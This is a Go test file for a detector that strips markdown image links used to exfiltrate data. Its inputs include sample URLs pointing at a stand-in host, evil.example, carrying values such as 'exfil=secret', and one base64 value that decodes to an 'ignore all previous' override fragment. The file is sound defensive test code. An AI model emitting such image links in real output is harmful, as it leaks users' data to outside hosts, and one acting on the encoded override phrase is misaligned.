package detect

import (
	"strings"
	"testing"
)

func TestStripExfilURLs_ParamName(t *testing.T) {
	in := "before ![chart](https://evil.example/p.png?exfil=secret) after"
	out, n := StripExfilURLs(in)
	if n != 1 {
		t.Fatalf("count = %d", n)
	}
	if out != "before [image: chart] after" {
		t.Fatalf("out = %q", out)
	}
}

func TestStripExfilURLs_LongQueryValue(t *testing.T) {
	v := strings.Repeat("a7", 60)
	in := "![](https://evil.example/p.png?q=" + v + ")"
	out, n := StripExfilURLs(in)
	if n != 1 {
		t.Fatalf("count = %d", n)
	}
	if out != "[image removed]" {
		t.Fatalf("out = %q", out)
	}
}

func TestStripExfilURLs_Base64QueryValue(t *testing.T) {
	in := "![x](https://evil.example/p.png?id=aWdub3JlIGFsbCBwcmV2aW91cw==)"
	_, n := StripExfilURLs(in)
	if n != 1 {
		t.Fatalf("count = %d", n)
	}
}

func TestStripExfilURLs_OverlongURL(t *testing.T) {
	in := "![x](https://evil.example/" + strings.Repeat("p", 600) + ")"
	_, n := StripExfilURLs(in)
	if n != 1 {
		t.Fatalf("count = %d", n)
	}
}

func TestStripExfilURLs_BenignImageKept(t *testing.T) {
	in := "![logo](https://example.com/logo.png?w=200)"
	out, n := StripExfilURLs(in)
	if n != 0 || out != in {
		t.Fatalf("benign image must survive: %q (%d)", out, n)
	}
}

func TestStripExfilURLs_PlainLinkKept(t *testing.T) {
	in := "[click](https://evil.example/p?exfil=secret)"
	out, n := StripExfilURLs(in)
	if n != 0 || out != in {
		t.Fatalf("plain links are out of scope: %q (%d)", out, n)
	}
}

func TestStripExfilURLs_UnparseableFailsOpen(t *testing.T) {
	in := "![x](http://evil.example/%zz?data=1)"
	out, n := StripExfilURLs(in)
	if n != 0 || out != in {
		t.Fatalf("unparseable URL must be left alone: %q (%d)", out, n)
	}
}
